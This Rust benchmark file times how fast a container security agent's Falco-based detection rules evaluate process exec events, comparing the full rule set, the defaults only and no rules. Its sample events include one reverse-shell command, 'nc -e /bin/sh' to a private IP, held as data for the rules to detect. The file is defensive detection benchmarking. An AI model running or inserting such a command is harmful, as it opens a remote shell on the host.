//! Rule evaluation cost per exec event (`cargo xtask bench rules`).
//!
//! Evaluates a fixed mix of exec events (benign ones and a few that match) against the whole
//! rule set the agent runs with Falco's stable ruleset loaded (embedded defaults + stable
//! rules), and, side by side in the same rounds, against the embedded defaults only and
//! against no rules (the cost of looking at an event at all). Every rule is evaluated for
//! every event (no early stop at the first match, no output rendering), so the figure is the
//! full cost of the conditions. Rounds are interleaved; medians and minima are reported.

#[path = "../tests/support/bench_args.rs"]
#[allow(dead_code)] // the one-count parser serves other benches
mod bench_args;

use std::{hint::black_box, sync::Arc, time::Instant};

use youwatch_agent::{
    event::EnrichedExec,
    rules::{
        DEFAULT_RULES, DEFAULT_RULES_NAME, Engine, LoadOptions, RuleMatching, RulesMetrics, load,
        sample::Exec, source::SourceFile,
    },
};

const STABLE: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/data/falco/falco_rules.yaml"
);

/// `cargo bench --bench rules -- [--rounds N] [--events N] [--per-event]`. Without
/// `--bench` (as `cargo test --all-targets` runs it) a short smoke run checks the bench works.
#[derive(Default, clap::Parser)]
struct Opts {
    /// Interleaved rounds (default 21; 1 in a smoke run).
    #[arg(long)]
    rounds: Option<usize>,
    /// Events per rule set per round (default 50000; 100 in a smoke run).
    #[arg(long)]
    events: Option<usize>,
    /// Also print the median per distinct exec of the mix.
    #[arg(long)]
    per_event: bool,
    /// Set by `cargo bench`.
    #[arg(long)]
    bench: bool,
}

fn engine(files: &[Arc<SourceFile>]) -> Engine {
    let set = load(files, &LoadOptions::default());
    assert!(
        set.diagnostics.errors.is_empty(),
        "{:?}",
        set.diagnostics.errors
    );
    Engine::new(
        &set,
        RuleMatching::All,
        Vec::new(),
        "node-1".into(),
        RulesMetrics::default(),
    )
}

/// Execs as the inventory would enrich them: mostly benign, a few matching.
fn events() -> Vec<EnrichedExec> {
    let pod = |e: Exec| e.pod("shop", "juice-shop-6f7d9-x2x4k").build();
    vec![
        pod(Exec::new(["node", "/juice-shop/build/app.js"]).ancestor([
            "containerd-shim",
            "-namespace",
            "k8s.io",
        ])),
        pod(
            Exec::new(["/usr/bin/python3", "/app/worker.py", "--queue", "jobs"])
                .ancestor(["node", "/juice-shop/build/app.js"]),
        ),
        pod(Exec::new(["ls", "-la", "/tmp"])
            .ancestor(["node", "app.js"])
            .ancestor(["containerd-shim"])),
        pod(Exec::new([
            "curl",
            "-s",
            "http://localhost:3000/rest/admin/application-version",
        ])
        .ancestor(["node", "app.js"])),
        pod(Exec::new(["grep", "-r", "TODO", "/juice-shop/lib"]).ancestor(["node", "app.js"])),
        Exec::new(["/usr/lib/systemd/systemd-journald"])
            .ancestor(["systemd"])
            .build(),
        pod(Exec::new(["bash"]).ancestor(["runc"]).tty(34816)),
        pod(Exec::new(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]).ancestor(["sh", "-c", "x"])),
    ]
}

/// Nanoseconds per event for `n` events cycling through `events`.
fn time(engine: &Engine, events: &[EnrichedExec], n: usize) -> f64 {
    let start = Instant::now();
    let mut matched = 0;
    for ev in events.iter().cycle().take(n) {
        matched += black_box(engine.matches(black_box(ev))).len();
    }
    black_box(matched);
    start.elapsed().as_nanos() as f64 / n as f64
}

fn median(v: &mut [f64]) -> f64 {
    v.sort_by(f64::total_cmp);
    v[v.len() / 2]
}

fn main() {
    let (opts, benching) = bench_args::parse::<Opts>();
    let rounds = bench_args::or(opts.rounds, benching, 21, 1);
    let n = bench_args::or(opts.events, benching, 50_000, 100);
    let defaults = SourceFile::new(DEFAULT_RULES_NAME, DEFAULT_RULES.to_owned());
    let stable = SourceFile::new(
        "falco_rules.yaml",
        std::fs::read_to_string(STABLE).expect("the vendored falco_rules.yaml"),
    );
    let full = engine(&[defaults.clone(), stable]);
    let only_defaults = engine(&[defaults]);
    let none = engine(&[]);
    let events = events();

    let cases = [
        ("stable ruleset + defaults", &full),
        ("defaults only", &only_defaults),
        ("no rules", &none),
    ];
    // Warm up caches and branch predictors.
    for (_, e) in &cases {
        time(e, &events, n.min(10_000));
    }
    let mut samples = vec![Vec::new(); cases.len()];
    for _ in 0..rounds {
        for (i, (_, e)) in cases.iter().enumerate() {
            samples[i].push(time(e, &events, n));
        }
    }
    println!(
        "rules bench: {} events per round ({} distinct execs), {} interleaved rounds; every rule evaluated for every event",
        n,
        events.len(),
        rounds
    );
    println!(
        "{:<28} {:>6} {:>16} {:>12}",
        "rule set", "rules", "median ns/event", "min ns/event"
    );
    let mut medians = Vec::new();
    for ((name, e), s) in cases.iter().zip(&mut samples) {
        let min = s.iter().copied().fold(f64::INFINITY, f64::min);
        let m = median(s);
        medians.push(m);
        println!("{name:<28} {:>6} {m:>16.0} {min:>12.0}", e.rule_count());
    }
    if opts.per_event {
        println!("per event, stable ruleset + defaults (median ns):");
        for ev in &events {
            let one = std::slice::from_ref(ev);
            let mut s: Vec<f64> = (0..rounds)
                .map(|_| time(&full, one, n / events.len()))
                .collect();
            println!("  {:>8.0}  {}", median(&mut s), ev.process.cmdline());
        }
    }
    println!(
        "ratio: stable+defaults / defaults only = {:.2}x; rule evaluation alone (minus no rules) = {:.0} ns/event",
        medians[0] / medians[1],
        medians[0] - medians[2]
    );
}
